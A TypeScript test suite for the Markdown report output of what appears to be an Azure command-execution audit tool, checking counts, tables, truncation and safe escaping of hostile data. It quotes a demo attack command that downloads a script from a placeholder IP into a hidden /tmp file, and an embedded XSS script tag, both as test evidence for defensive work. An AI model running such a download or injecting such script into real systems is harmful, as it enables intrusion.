import { describe, expect, it } from "vitest";
import type { Finding, ScanResult } from "../../src/model/finding.js";
import {
  DEFAULT_MARKDOWN_MAX_BYTES,
  JOB_SUMMARY_MAX_BYTES,
  markdownFormat,
  renderMarkdown,
} from "../../src/outputs/formats/markdown.js";
import { renderToString } from "../../src/outputs/registry.js";
import { UsageError } from "../../src/util/errors.js";
import { demoResult } from "./demo-result.js";
import { makeHostileResult } from "./hostile.js";

const bytes = (s: string): number => Buffer.byteLength(s, "utf8");

/** The text with fenced blocks and code spans taken out: what GitHub renders as Markdown. */
function prose(md: string): string {
  let out = "";
  const lines = md.split("\n");
  for (let i = 0; i < lines.length; i++) {
    const fence = /^(`{3,})/.exec(lines[i] ?? "");
    if (fence?.[1]) {
      const close = fence[1];
      i += 1;
      while (i < lines.length && lines[i] !== close) i += 1;
      continue;
    }
    out += `${stripSpans(lines[i] ?? "")}\n`;
  }
  return out;
}

function stripSpans(line: string): string {
  let out = "";
  let i = 0;
  while (i < line.length) {
    const run = /^`+/.exec(line.slice(i))?.[0];
    if (!run) {
      out += line[i];
      i += 1;
      continue;
    }
    // A span closes at the next run of exactly the same length.
    const re = new RegExp(`(?<!\`)${run}(?!\`)`, "g");
    re.lastIndex = i + run.length;
    const m = re.exec(line);
    if (!m) throw new Error(`unclosed code span in: ${line}`);
    out += "CODE";
    i = m.index + run.length;
  }
  return out;
}

/** Cells of a GFM table row: split on pipes that no backslash escapes. */
function cells(row: string): number {
  return row.split(/(?<!\\)\|/).length;
}

function tablesAreWellFormed(md: string): void {
  const lines = md.split("\n");
  for (let i = 0; i < lines.length; i++) {
    if (!/^\|[-:|]+\|$/.test(lines[i + 1] ?? "") || !(lines[i] ?? "").startsWith("|")) continue;
    const width = cells(lines[i] ?? "");
    for (let j = i + 1; j < lines.length && (lines[j] ?? "").startsWith("|"); j++) {
      expect(cells(lines[j] ?? ""), lines[j]).toBe(width);
    }
  }
}

describe("renderMarkdown over the demo", () => {
  it("counts by severity and technique, lists every finding, shows the payloads and the coverage", async () => {
    const result = await demoResult();
    const md = renderMarkdown(result, { toolVersion: "0.1.0" });
    expect(md).toMatch(/^## azure-exec-audit: 12 findings \(2 critical, 5 high, 3 medium, 2 low\)/);
    expect(md).toContain("**scan complete**");
    const techniques = new Set(result.findings.flatMap((f) => f.attack.techniques));
    for (const t of techniques) expect(md).toMatch(new RegExp(`^\\| \`${t.replace(".", "\\.")}\` \\| `, "m"));
    expect(md).toContain("| `T1651` | Cloud Administration Command |");
    const rows = md.split("\n").filter((l) => /^\| \d+ \| /.test(l));
    expect(rows).toHaveLength(12);
    expect(rows[0]).toContain("🟥 critical");
    expect(md).toContain("curl -fsSL http://198.51.100.23/s2.sh -o /tmp/.s2");
    expect(md).toMatch(/Chain of 7 steps over 1 h 17 min/);
    expect(md).toContain("The source was read completely.");
    expect(md).not.toContain("Truncated");
    expect(bytes(md)).toBeLessThan(DEFAULT_MARKDOWN_MAX_BYTES);
    tablesAreWellFormed(md);
  });

  it("puts new findings first", async () => {
    const result = await demoResult();
    const low = result.findings.find((f) => f.severity === "low") as Finding;
    const withNew: ScanResult = {
      ...result,
      findings: result.findings.map((f) => ({ ...f, status: f === low ? "new" : "open" })),
    };
    const md = renderMarkdown(withNew);
    const first = md.split("\n").find((l) => l.startsWith("| 1 |"));
    expect(first).toContain("🟦 low | new |");
    expect(md).toContain("· 1 new");
  });

  it("is what --format markdown writes, and a too-small --markdown-max-bytes is a usage error", async () => {
    const result = await demoResult();
    const text = await renderToString(markdownFormat, result, { toolVersion: "0.1.0", color: false });
    expect(text).toBe(renderMarkdown(result, { toolVersion: "0.1.0" }));
    await expect(
      renderToString(markdownFormat, result, { toolVersion: "0", color: false, options: { maxBytes: "100" } }),
    ).rejects.toBeInstanceOf(UsageError);
  });
});

describe("renderMarkdown over hostile data", () => {
  const { result, password } = makeHostileResult();
  const md = renderMarkdown(result);

  it("makes no link, mention, issue reference or HTML from the data", () => {
    const text = prose(md);
    // Escaped characters (`\<`, `\]`) are text; an unescaped one would be HTML or a link.
    expect(text).not.toMatch(/(?<!\\)</);
    expect(text).not.toMatch(/(?<!\\)\[(?!!(?:WARNING|NOTE)\])/);
    expect(text).not.toMatch(/(?<!\\)&[#A-Za-z0-9]+;/);
    expect(text).not.toMatch(/@[A-Za-z0-9]/);
    expect(text).not.toMatch(/#\d/);
    expect(text).not.toMatch(/https?:\/\//);
    expect(text).not.toMatch(/www\\?\./i);
    expect(text).not.toMatch(/(?<!\\)\*\*x/);
    // The only headings are the report's own.
    for (const l of text.split("\n").filter((l) => l.startsWith("#")))
      expect(l).toMatch(/^#{2,4} (azure-exec-audit|By |Findings|Evidence|Coverage|\d+\. )/);
  });

  it("keeps every table row one row", () => {
    tablesAreWellFormed(md);
    const rows = md.split("\n").filter((l) => /^\| \d+ \| /.test(l));
    expect(rows).toHaveLength(3);
  });

  it("shows the payload verbatim in a fence it cannot close", () => {
    expect(md).toContain("````\n#!/bin/bash\n</pre></details><script>window.__xss=3</script>\n```\n# not a heading");
  });

  it("leaks no secret and no escape code", () => {
    expect(md).not.toContain(password);
    expect(md).not.toContain("\u001b");
    expect(md).not.toContain("\u0007");
  });

  it("says the scan is incomplete and what was not read", () => {
    expect(md).toContain("> [!WARNING]");
    expect(md).toContain("- **failed** `activity-log`");
  });
});

describe("renderMarkdown size", () => {
  function many(n: number): ScanResult {
    const { result } = makeHostileResult();
    const base = result.findings[0] as Finding;
    const findings = Array.from({ length: n }, (_, i) => ({
      ...base,
      id: `f-${i}`,
      time: `2024-05-01T10:${String(i % 60).padStart(2, "0")}:00Z`,
    }));
    return { ...result, findings };
  }

  it("stays under the limit, keeps the head and coverage, and says where the rest is", () => {
    const md = renderMarkdown(many(3000), { maxBytes: 20_000, fullReport: "the azure-exec-audit-report artifact" });
    expect(bytes(md)).toBeLessThanOrEqual(20_000);
    expect(md).toMatch(/^## azure-exec-audit: 3000 findings/);
    expect(md).toContain("### Coverage");
    expect(md).toMatch(
      /Truncated to stay within the size limit: \d+ findings rows and the evidence of \d+ findings left out\. The whole report is in the azure\\-exec\\-audit\\-report artifact\./,
    );
    tablesAreWellFormed(md);
  });

  it("a job summary of a huge scan stays well under 1 MiB", () => {
    const md = renderMarkdown(many(20_000), { maxBytes: JOB_SUMMARY_MAX_BYTES });
    expect(bytes(md)).toBeLessThanOrEqual(JOB_SUMMARY_MAX_BYTES);
    expect(bytes(md)).toBeGreaterThan(JOB_SUMMARY_MAX_BYTES / 2);
  });

  it("cuts even when the head alone is over the limit", () => {
    const { result } = makeHostileResult();
    const coverage = Array.from({ length: 40 }, (_, i) => ({
      ...result.coverage[0],
      scope: `/subscriptions/${i}`,
      reason: "x".repeat(1000),
    }));
    const md = renderMarkdown({ ...result, coverage: coverage as ScanResult["coverage"] }, { maxBytes: 4096 });
    expect(bytes(md)).toBeLessThanOrEqual(4096);
    expect(md).toContain("Truncated to stay within the size limit.");
  });
});
